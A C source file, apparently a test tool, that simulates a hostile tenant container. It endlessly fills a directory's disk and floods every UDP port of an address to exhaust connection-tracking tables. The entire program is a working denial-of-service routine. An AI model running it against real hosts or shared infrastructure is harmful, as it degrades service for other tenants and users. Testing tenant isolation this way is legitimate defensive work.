/* What a hostile tenant's container does: it fills its disk and the tables of connections.
 *
 * attack DIRECTORY GIB ADDRESS: writes GIB gibibytes to a file there, again and again, and sends a
 * datagram to each port of ADDRESS from many ports, so that each makes another entry.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void fill(const char *directory, long gib)
{
	static char block[1 << 20];
	char path[256];

	memset(block, 0xa5, sizeof(block));
	snprintf(path, sizeof(path), "%s/fill", directory);
	for (;;) {
		int file = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0600);

		for (long mib = 0; file >= 0 && mib < gib << 10; mib++)
			if (write(file, block, sizeof(block)) < 0)
				break;
		fsync(file);
		close(file);
		usleep(1000);
	}
}

static void connections(const char *address)
{
	struct sockaddr_in to = {.sin_family = AF_INET};

	inet_pton(AF_INET, address, &to.sin_addr);
	for (;;) {
		int one = socket(AF_INET, SOCK_DGRAM, 0);

		for (int port = 1; one >= 0 && port < 65536; port++) {
			to.sin_port = htons(port);
			sendto(one, "?", 1, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to));
			if (port % 100 == 0)
				usleep(10000);
		}
		close(one);
	}
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	if (fork() == 0)
		fill(argv[1], atol(argv[2]));
	connections(argv[3]);
}
